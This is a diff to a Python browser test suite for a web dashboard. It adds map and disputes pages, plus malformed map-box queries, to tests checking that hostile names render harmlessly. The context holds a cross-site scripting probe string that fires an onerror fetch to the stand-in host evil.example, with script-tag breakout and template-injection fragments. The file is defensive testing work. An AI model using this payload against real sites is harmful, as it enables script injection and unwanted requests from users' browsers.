@@ -17,8 +17,10 @@ from hub_web import Client, add_person, serving
 from in_chromium import axe_faults
 from playwright.sync_api import Browser
 
+from agent.hub.domain.rows.city_map import NO_MAP, MapFile, MapWord, Outline
 from agent.hub.domain.rows.findings import Wanted
 from agent.hub.stores.findings import findings
+from agent.hub.stores.page import city_map
 from agent.hub.stores.store import NAME, Store
 from agent.hub.web.routes import ROUTES
 
@@ -36,6 +38,8 @@ PAGES = {
     "site": "/sites/S1",
     "history": f"/sites/S1/findings/{ASSIGNED[1]}/{quote(ASSIGNED[2])}",
     "silent": "/silent",
+    "map": "/map?box=113.0,39.8,113.5,40.2",
+    "disputes": "/disputes",
     "trends": "/trends",
     "assessment": "/assessment?day=2026-11-26",
     "orders": "/orders",
@@ -50,6 +54,8 @@ FRAME = {"account": "/account", "no such page": "/nowhere"}
 
 PAGE_MAX_BYTES = 150 * 1024
 HOSTILE = "<img src=x onerror=fetch('//evil.example/')>\"'</script><script>alert(1)</script>{{7*7}}\u202e\x1b[2J"
+NAMED = Outline(HOSTILE, (((113.2, 39.9), (113.5, 39.9), (113.5, 40.1), (113.2, 39.9)),))
+WORD = MapWord(by=HOSTILE, why=HOSTILE, at="2026-11-27T06:30:00.000Z", frame="wgs84", digest="d" * 64)
 SMALL = """least => [...document.querySelectorAll('button, input:not([type=hidden]), select, .top nav a')]
   .filter((one) => one.checkVisibility() && !one.closest('.skip'))
   .map((one) => [one.outerHTML.slice(0, 80), one.getBoundingClientRect()])
@@ -140,6 +146,7 @@ def test_hostile_names_stay_texts_and_make_no_request(tmp_path: Path, browser: B
         db.execute("UPDATE dispute SET why = ?, disputed_by = ?", (HOSTILE, HOSTILE))
         db.execute("UPDATE command SET reason = ?", (HOSTILE,))
         db.execute("UPDATE operator SET name = ?", (HOSTILE,))
+    city_map.keep(directory, NO_MAP.with_file(MapFile(sites={"H1": (113.3, 40.0)}, outlines=(NAMED,)), WORD))
     own = f"/sites/H1/findings/{row.check}/{quote(row.subject, safe='')}"
     with serving(directory) as one, shown(browser, one.let_in("boss")) as (page, complaints):
         for path in (*PAGES.values(), "/sites/H1", "/findings?site=H1", own, f"/findings?model={quote(HOSTILE)}"):
@@ -183,6 +190,13 @@ def test_what_nobody_has_heard_of_is_no_page(client: Client, path: str) -> None:
         "/findings?after=x",
         "/findings?statsu=fail",
         "/findings?since=x",
+        "/map?box=1",
+        "/map?box=113,40,112,41",
+        "/map?box=nan,nan,nan,nan",
+        "/map?box=-inf,-inf,inf,inf",
+        "/map?box=0,0,0.1,0.1",
+        "/map?box=113.0,39.8,113.5,40.2,1",
+        "/map?box=%D9%A1,1,2,3",
     ],
 )
 def test_a_filter_that_is_none_shows_nothing_rather_than_everything(client: Client, path: str) -> None:
@@ -193,7 +207,7 @@ def test_a_filter_that_is_none_shows_nothing_rather_than_everything(client: Clie
 ODD = (
     "/assessment?day=2026-02-30", "/assessment?day=9999-12-31&by=x&sort=y", "/assessment?month=2026-13",
     "/assessment?month=0000-01", "/orders?next=-1", "/orders?next=999999999&state=x", "/silent?next=%D9%A3&kind=x",
-    "/holds?site=%27", "/enrollments?site=x",
+    "/holds?site=%27", "/disputes?site=%27&state=x&next=x", "/map?next=-1", "/enrollments?site=x",
 )  # fmt: skip
 
 
